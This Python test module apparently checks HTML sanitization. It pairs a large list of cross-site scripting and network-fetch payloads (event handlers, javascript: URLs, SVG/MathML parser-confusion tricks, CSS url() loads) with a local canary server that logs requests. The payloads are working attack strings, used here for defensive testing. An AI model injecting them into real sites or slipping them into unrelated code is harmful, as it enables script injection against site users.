"""Markup that tries to run a script or to reach the network, and the server that would be reached.

In a payload ``@JS@`` is a script that tells that it ran, ``@URL@`` an address of a host that leads
to the server.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Final

RAN: Final = "it-ran"
"""What a script says that runs: on the console, to its parent, and to the server."""

PAYLOADS: Final = tuple(
    line.strip()
    for line in """
    <script>@JS@</script>
    <SCRIPT>@JS@</SCRIPT >
    <script/x>@JS@</script>
    <script src="@URL@"></script>
    <script type=module>import "@URL@"</script>
    <script type=speculationrules>{"prefetch":[{"source":"list","urls":["@URL@"]}]}</script>
    <svg><script>@JS@</script></svg>
    <svg><script href="@URL@"></script></svg>
    <svg onload="@JS@"></svg>
    <math href="javascript:@JS@"><mtext>x</mtext></math>
    <img src="@URL@">
    <img src="//canary.example/relative">
    <img src="https://canary.example/tls">
    <img src="\\\\canary.example\\slashes">
    <img src=x onerror="@JS@">
    <img/src=x/onerror="@JS@">
    <img srcset="@URL@ 2x, @URL@ 1x">
    <img src="data:image/png;base64,AAAA" attributionsrc="@URL@">
    <image src="@URL@">
    <picture><source srcset="@URL@"><img></picture>
    <body onload="@JS@" onpageshow="@JS@">
    <body background="@URL@">
    <table background="@URL@"><tr><td background="@URL@">x</td></tr></table>
    <input autofocus onfocus="@JS@">
    <input type=image src="@URL@">
    <details open ontoggle="@JS@"><summary>x</summary></details>
    <marquee onstart="@JS@">x</marquee>
    <style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="@JS@">x</p>
    <div style="content-visibility:auto" oncontentvisibilityautostatechange="@JS@">x</div>
    <video src="@URL@" autoplay onerror="@JS@"></video>
    <video poster="@URL@"></video>
    <video><source src="@URL@" onerror="@JS@"><track default src="@URL@"></video>
    <audio src="@URL@" preload=auto onerror="@JS@"></audio>
    <iframe src="@URL@"></iframe>
    <iframe src="javascript:@JS@"></iframe>
    <iframe srcdoc="&lt;script&gt;@JS@&lt;/script&gt;&lt;img src='@URL@'&gt;"></iframe>
    <iframe><script>@JS@</script><img src="@URL@"></iframe>
    <iframe src="data:text/html,<script>@JS@</script><img src='@URL@'>"></iframe>
    <frameset><frame src="@URL@"></frameset>
    <object data="@URL@"></object>
    <object type="text/html" data="data:text/html,<img src='@URL@'>"></object>
    <embed src="@URL@">
    <applet code=x codebase="@URL@"></applet>
    <portal src="@URL@"></portal><fencedframe src="@URL@"></fencedframe>
    <link rel=stylesheet href="@URL@">
    <link rel=stylesheet href="data:text/css,@import '@URL@'">
    <link rel=preload as=image href="@URL@">
    <link rel=prefetch href="@URL@">
    <link rel=preconnect href="@URL@">
    <link rel=dns-prefetch href="@URL@">
    <link rel=modulepreload href="@URL@">
    <link rel=prerender href="@URL@">
    <link rel="shortcut icon" href="@URL@">
    <link rel=manifest href="@URL@">
    <style>@import "@URL@";</style>
    <style>@import url(@URL@);</style>
    <style>body{background:url(@URL@)}</style>
    <style>body{background:image-set(url(@URL@) 1x)}</style>
    <style>@font-face{font-family:x;src:url(@URL@)}*{font-family:x}</style>
    <style>li::before{content:url(@URL@)}</style><ul><li>x</li></ul>
    <div style="background:url('@URL@')">x</div>
    <div style="cursor:url(@URL@),auto;list-style:url(@URL@)">x</div>
    <div style="border-image:url(@URL@) 1;mask:url(@URL@)">x</div>
    <svg><style><p><link rel=preconnect href="@URL@"></p>
      <img src="@URL@" onerror="@JS@"></style></svg>
    <svg><title><p><img src="@URL@" onerror="@JS@"></p></title></svg>
    <svg><textarea><p><img src="@URL@" onerror="@JS@"></p></textarea></svg>
    <svg><![CDATA[</svg><img src="@URL@" onerror="@JS@">]]></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='@URL@'&gt;">
    <form><math><mtext></form><form><mglyph><style></math><img src="@URL@" onerror="@JS@">
    <noscript><p title="</noscript><img src='@URL@' onerror=@JS@>"></noscript>
    <textarea><p title="</textarea><img src='@URL@' onerror=@JS@>"></p></textarea>
    <title><p title="</title><img src='@URL@' onerror=@JS@>"></title>
    <xmp><p title="</xmp><img src='@URL@' onerror=@JS@>"></xmp>
    <noembed><img title="</noembed><img src='@URL@'>"></noembed><noframes></noframes>
    <!--><img src="@URL@" onerror="@JS@">-->
    <!--x--!><img src="@URL@" onerror="@JS@">
    <![CDATA[><img src="@URL@" onerror="@JS@">]]>
    <?x ><img src="@URL@" onerror="@JS@">?>
    <meta http-equiv=refresh content="0;url=@URL@">
    <meta http-equiv=refresh content="0;url=javascript:@JS@">
    <meta http-equiv=refresh content="0;url=data:text/html,<img src='@URL@'>">
    <meta http-equiv="Content-Security-Policy" content="default-src *"><img src="@URL@">
    <meta http-equiv="x-dns-prefetch-control" content=on><a href="@URL@">x</a>
    <base href="@URL@/"><img src="x.png"><a href="y">x</a>
    <base target=_top><a href="@URL@" autofocus>x</a>
    <form action="@URL@" id=f><input name=a></form><script>document.forms[0].submit()</script>
    <form action="javascript:@JS@"><button autofocus onfocus="this.click()">x</button></form>
    <button formaction="javascript:@JS@" form=f>x</button>
    <a href="javascript:@JS@">x</a>
    <a href="&#106;avascript:@JS@">x</a>
    <a href="@URL@" ping="@URL@" target=_top download>x</a>
    <map name=m><area shape=default href="@URL@"></map><img usemap="#m" src="@URL@">
    <svg><image href="@URL@"/><image xlink:href="@URL@"/></svg>
    <svg><use href="@URL@#a"/></svg>
    <svg><use xlink:href="data:image/svg+xml,<svg id='a' onload='@JS@'/>#a"/></svg>
    <svg><filter id=g><feImage href="@URL@"/></filter>
      <rect width=9 height=9 filter="url(#g)"/></svg>
    <svg><rect width=9 height=9
      fill="url(@URL@#a)" mask="url(@URL@#b)" filter="url(@URL@#c)"/></svg>
    <svg><a><animate attributeName=href values="javascript:@JS@"/><text>x</text></a></svg>
    <svg><image><set attributeName=href to="@URL@"/></image></svg>
    <svg><foreignObject><iframe src="@URL@"></iframe><img src="@URL@"></foreignObject></svg>
    <template shadowrootmode=open><img src="@URL@"><script>@JS@</script></template>
    <div><template shadowrootmode=open><style>:host{background:url(@URL@)}</style></template></div>
    <div popover id=q onbeforetoggle="@JS@">x</div><button popovertarget=q>x</button>
    <div contenteditable autofocus onfocus="@JS@">x</div>
    <html manifest="@URL@"><head profile="@URL@"><body>
    <div data-stepmill-target="" style="scroll-initial-target:nearest" onscrollend="@JS@">x</div>
    </iframe><script>@JS@</script><img src="@URL@">
    "></iframe><img src="@URL@" onerror="@JS@">
    </script><script>@JS@</script>
    --></style></title></textarea></noscript></template></select></svg></math>
    <img src="@URL@" onerror="@JS@">
    &lt;img src="@URL@" onerror="@JS@"&gt;
    <plaintext><img src="@URL@" onerror="@JS@">
    {{ "<script>@JS@</script>" | safe }}{% autoescape false %}<img src="@URL@">{% endautoescape %}
    ";@JS@//'-@JS@-`${@JS@}`\\u003cscript\\u003e@JS@\\u003c/script\\u003e
    """.splitlines()
    if line.strip()
)


def filled(payload: str, number: int) -> str:
    """A payload with its script and address; the number tells which one it was."""
    script = f"console.error('{RAN}-{number}');parent.postMessage('{RAN}-{number}','*');"
    script += f"new Image().src='http://canary.example/{RAN}-{number}'"
    return payload.replace("@JS@", script).replace(
        "@URL@", f"http://canary.example/fetched-{number}"
    )


@dataclass
class Canary:
    """A server that whoever looks anything up is sent to. asked: the first line of each connection,
    or nothing.
    """

    port: int
    asked: list[str] = field(default_factory=list)


@contextmanager
def canary() -> Iterator[Canary]:
    """Listens on this machine; answers every request with an empty page, and closes what asks for
    nothing.
    """
    with socket.create_server(("127.0.0.1", 0)) as server:
        found = Canary(server.getsockname()[1])
        threading.Thread(target=_serve, args=(server, found), daemon=True).start()
        yield found


def _serve(server: socket.socket, found: Canary) -> None:
    while True:
        try:
            connection, _ = server.accept()
        except OSError:  # it is over
            return
        with connection, suppress(OSError):
            connection.settimeout(0.2)
            found.asked.append("")
            found.asked[-1] = connection.recv(4096).partition(b"\r\n")[0].decode("latin-1")
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
